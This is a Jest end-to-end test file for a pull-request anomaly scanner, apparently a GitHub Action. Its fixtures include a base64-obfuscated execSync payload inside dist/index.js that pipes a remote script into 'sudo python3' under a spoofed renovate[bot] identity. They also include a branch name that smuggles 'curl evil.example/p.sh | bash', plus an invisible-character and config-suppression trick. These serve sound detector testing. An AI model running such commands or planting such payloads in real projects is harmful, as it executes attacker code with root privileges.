// pr-anomaly-scan through its committed bundle against a real git checkout
// and the fake GitHub: findings, API checks within budget, one PR comment
// updated in place, and the failure modes (no token, missing commit).
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { startFakeGitHub } from '../fakes/github/server.mjs';
import { runAction } from '../harness/run-action';
import { type BuiltRepo, buildRepo } from '../pr-anomaly-scan/corpus/build';

const REPO = 'octo-org/octo-repo';
const TOKEN = 'ghs_e2eFakeToken000000000000000000000000';
const b64 = (s: string) => Buffer.from(s).toString('base64');

function maliciousRepo(): BuiltRepo {
  return buildRepo(
    { 'dist/index.js': '"use strict";\nmodule.exports = () => 1;\n', 'src/pkg/__init__.py': '' },
    {
      'dist/index.js':
        '"use strict";\nmodule.exports = () => 1;\n' +
        `const p = "${b64('curl -sSf https://gist.githubusercontent.com/x/memdump.py | sudo python3'.repeat(3))}";\n` +
        "require('child_process').execSync(Buffer.from(p, 'base64').toString());\n"
    },
    { author: { name: 'renovate[bot]', email: '29139614+renovate[bot]@users.noreply.github.com' } }
  );
}

function world(r: BuiltRepo, opts: { verified: boolean }) {
  const daysAgo = (n: number) => new Date(Date.now() - n * 86_400_000).toISOString().replace(/\.\d{3}Z$/, 'Z');
  return {
    viewer: 'maint',
    users: { maint: { created_at: '2015-01-01T00:00:00Z' }, newcomer: { created_at: daysAgo(5) } },
    repos: {
      [REPO]: {
        commits: [
          {
            sha: r.head,
            message: 'PR change',
            author: { login: 'newcomer', date: daysAgo(1) },
            parents: [r.base],
            verification: opts.verified
              ? { verified: true, reason: 'valid', type: 'gpg' }
              : { verified: false, reason: 'unsigned' }
          },
          { sha: r.base, message: 'base', author: { login: 'maint', date: daysAgo(30) } }
        ],
        branches: { main: r.base },
        pulls: [
          {
            number: 7,
            title: 'Update dist',
            user: 'newcomer',
            head: { ref: 'renovate/update', sha: r.head, repo: 'newcomer/octo-repo' },
            base: { ref: 'main', sha: r.base },
            created_at: daysAgo(1)
          }
        ]
      }
    }
  };
}

const event = (r: BuiltRepo, ref = 'renovate/update') => ({
  action: 'synchronize',
  number: 7,
  pull_request: {
    number: 7,
    title: 'Update dist',
    body: '',
    user: { login: 'newcomer' },
    author_association: 'FIRST_TIME_CONTRIBUTOR',
    head: { ref, sha: r.head },
    base: { ref: 'main', sha: r.base }
  },
  repository: { full_name: REPO }
});

describe('pr-anomaly-scan end to end', () => {
  let gh: Awaited<ReturnType<typeof startFakeGitHub>>;
  let repo: BuiltRepo;

  beforeAll(async () => {
    repo = maliciousRepo();
    gh = await startFakeGitHub({ world: world(repo, { verified: false }) });
  });
  afterAll(async () => {
    repo.cleanup();
    await gh.close();
  });

  const run = (inputs: Record<string, string> = {}, token: string | undefined = TOKEN, ev: object = event(repo)) =>
    runAction('pr-anomaly-scan', {
      workspace: repo.dir,
      repository: REPO,
      eventName: 'pull_request',
      event: ev,
      apiUrl: gh.url,
      githubToken: token,
      inputs
    });

  it('flags the tj-actions reconstruction, checks the API within budget and comments once', async () => {
    const before = gh.requests.length;
    const r = await run({ comment: 'true', 'trusted-orgs': 'scientific-python' });
    const ids = r.report.findings.map((f: { ruleId: string }) => f.ruleId);
    expect(ids).toEqual(
      expect.arrayContaining([
        'obfuscation/bundled-js-payload',
        'meta/unverified-bot-identity',
        'meta/new-author-sensitive-paths'
      ])
    );
    expect(r.exitCode).toBe(1);
    expect(Number(r.outputs['risk-score'])).toBeGreaterThanOrEqual(8);
    expect(r.summary).toContain('Risk score:');
    expect(r.report.notChecked).toEqual([]);
    const used = gh.requests.slice(before);
    expect(used.length).toBeLessThanOrEqual(10);
    // Who the author is: the vouch files and the author's history (GraphQL), their public memberships (REST).
    expect(used.some((q: { path: string }) => q.path === '/users/newcomer/orgs')).toBe(true);
    expect(r.summary).toContain(
      '**Author:** @<!-- -->newcomer: first contribution to the ecosystem; account 5 days old'
    );
    const comments = gh.state.repos[REPO].pulls[0].comments;
    expect(comments).toHaveLength(1);
    expect(comments[0].body).toContain('<!-- security-actions:pr-anomaly-scan -->');
    expect(comments[0].body).toContain('bundled-js-payload');
    // The SARIF carries the rule and a location.
    const result = r.sarif.runs[0].results.find(
      (x: { ruleId: string }) => x.ruleId === 'obfuscation/bundled-js-payload'
    );
    expect(result.locations[0].physicalLocation.artifactLocation.uri).toBe('dist/index.js');

    // A second push updates the same comment.
    const again = await run({ comment: 'true' });
    expect(again.exitCode).toBe(1);
    expect(gh.state.repos[REPO].pulls[0].comments).toHaveLength(1);
    expect(again.stdout).toMatch(/Updated the PR comment/);
  });

  it('without a token reports the API checks as not checked and still scans the diff', async () => {
    const r = await run({}, '');
    const checks = r.report.notChecked.map((n: { check: string }) => n.check);
    expect(checks).toEqual(
      expect.arrayContaining(['author-trust', 'meta/empty-pr-new-account', 'meta/unverified-bot-identity'])
    );
    expect(r.report.findings.map((f: { ruleId: string }) => f.ruleId)).toContain('obfuscation/bundled-js-payload');
    expect(r.summary).toContain('Not checked');
  });

  it('reports shell syntax in the branch name from the event', async () => {
    const r = await run({ 'fail-on': 'none' }, '', event(repo, 'x$({curl,-sSfL,evil.example/p.sh}${IFS}|${IFS}bash)'));
    const f = r.report.findings.find((x: { ruleId: string }) => x.ruleId === 'meta/branch-name-shell');
    expect(f.severity).toBe('critical');
    expect(r.exitCode).toBe(0);
  });

  it('names a missing base commit in one line, writes the reports and does not crash', async () => {
    const r = await run({ base: '0123456789abcdef0123456789abcdef01234567' }, '');
    expect(r.exitCode).toBe(1);
    expect(r.report.errors.join('\n')).toMatch(/base commit '0123456789ab[0-9a-f]*' is not in the checkout/);
    expect(r.report.notChecked.map((n: { check: string }) => n.check)).toEqual(
      expect.arrayContaining(['workflow', 'binary', 'unicode'])
    );
    expect(r.stderr).not.toMatch(/\n\s+at /);
    expect(r.outputs['sarif-file']).toBeTruthy();
  });

  it("applies the base commit's config, not the one the PR brings", async () => {
    const pr = buildRepo(
      { 'src/a.py': 'x = 1\n' },
      {
        // In code, not a string: the core grades a lone invisible character in a string low.
        'src/a.py': 'x = 1\ny\u200b = "cafe"\n',
        '.github/security-actions.yml':
          'rules:\n  unicode/invisible-character:\n    severity: info\nignores:\n  - rule: meta/governance-edit\n    reason: trust me\n'
      }
    );
    try {
      const r = await runAction('pr-anomaly-scan', {
        workspace: pr.dir,
        repository: REPO,
        eventName: 'pull_request',
        inputs: { base: pr.base, head: pr.head }
      });
      const byRule = (id: string) => r.report.findings.find((f: { ruleId: string }) => f.ruleId === id);
      expect(byRule('unicode/invisible-character').severity).toBe('high');
      expect(byRule('meta/governance-edit').suppression).toBeUndefined();
      expect(r.report.notes.join('\n')).toMatch(/base commit's version was applied/);
      expect(r.exitCode).toBe(1);
    } finally {
      pr.cleanup();
    }
  });

  it('passes a benign PR with a zero score', async () => {
    const benign = buildRepo(
      { 'src/pkg/core.py': 'def f(x):\n    return x\n' },
      { 'src/pkg/core.py': 'def f(x):\n    """Identity, σ-safe."""\n    return x\n' }
    );
    try {
      const r = await runAction('pr-anomaly-scan', {
        workspace: benign.dir,
        repository: REPO,
        eventName: 'pull_request',
        inputs: { base: benign.base, head: benign.head }
      });
      expect(r.exitCode).toBe(0);
      expect(r.outputs['findings-count']).toBe('0');
      expect(r.outputs['risk-score']).toBe('0');
    } finally {
      benign.cleanup();
    }
  });
});
